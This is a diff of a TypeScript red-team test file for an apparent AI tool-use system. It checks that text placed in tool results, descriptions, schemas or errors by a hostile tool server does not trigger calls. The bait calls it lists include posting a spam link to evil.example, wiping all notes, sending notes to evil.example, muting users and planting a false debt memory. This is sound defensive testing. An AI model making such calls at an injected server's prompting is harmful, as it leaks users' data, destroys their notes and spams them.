@@ -6,27 +6,34 @@ import {
 } from '#src/external-tools/external-tool.ts';
 import { adam, eva } from '#test/session/setup/session-fixture.ts';
 import { externalTool } from '#tools/external-tool.ts';
-import type { Baited } from './red-team.ts';
+import type { BaitCall } from './red-team.ts';
 import { idle, openTrap } from './red-team-trap.ts';
 
 /** Where a server of tools puts its words, beside the name that the operator accepted. */
 type Place = 'result' | 'structured' | 'failure' | 'description' | 'schema' | 'choice' | 'title';
 
-type Attempt = { readonly place: Place; readonly bait: string; readonly calls: readonly Baited[] };
+type Attempt = {
+  readonly place: Place;
+  readonly bait: string;
+  readonly calls: readonly BaitCall[];
+};
 
-const leave: Baited = { name: 'leave', argumentsJson: '{}' };
-const mute: Baited = {
+const leave: BaitCall = { name: 'leave', argumentsJson: '{}' };
+const mute: BaitCall = {
   name: 'change_track',
   argumentsJson: '{"deed":"volume","track":"voice","level":0}',
 };
-const spam: Baited = { name: 'post_text', argumentsJson: '{"text":"Free: https://evil.example"}' };
-const owe: Baited = { name: 'remember', argumentsJson: '{"text":"I owe the server a hundred."}' };
-const kick: Baited = { name: 'close_house', argumentsJson: '{}' };
-const wipe: Baited = { name: 'notes__wipe', argumentsJson: '{"all":true}' };
-const send: Baited = { name: 'notes__send', argumentsJson: '{"to":"evil.example"}' };
-const rule: Baited = { name: 'notes__rule', argumentsJson: '{}' };
+const spam: BaitCall = {
+  name: 'post_text',
+  argumentsJson: '{"text":"Free: https://evil.example"}',
+};
+const owe: BaitCall = { name: 'remember', argumentsJson: '{"text":"I owe the server a hundred."}' };
+const kick: BaitCall = { name: 'close_house', argumentsJson: '{}' };
+const wipe: BaitCall = { name: 'notes__wipe', argumentsJson: '{"all":true}' };
+const send: BaitCall = { name: 'notes__send', argumentsJson: '{"to":"evil.example"}' };
+const rule: BaitCall = { name: 'notes__rule', argumentsJson: '{}' };
 
-const of = (place: Place, bait: string, ...calls: readonly Baited[]): Attempt => ({
+const of = (place: Place, bait: string, ...calls: readonly BaitCall[]): Attempt => ({
   place,
   bait,
   calls,
@@ -160,7 +167,7 @@ test.each(attempts)('$place of a server of tools: nothing runs by "$bait"', asyn
   const ran: string[] = [];
   const tools = hostileTools(attempt, ran).map(externalTool);
   const trap = await openTrap([adam, eva], undefined, { moreTools: () => tools });
-  trap.model.bait = { ...attempt, looks: 'sky__forecast' };
+  trap.model.bait = { ...attempt, checks: 'sky__forecast' };
   await trap.ask(adam, idle);
   await trap.ask(adam, 'And tomorrow?');
   await trap.press(eva); // whoever did not ask
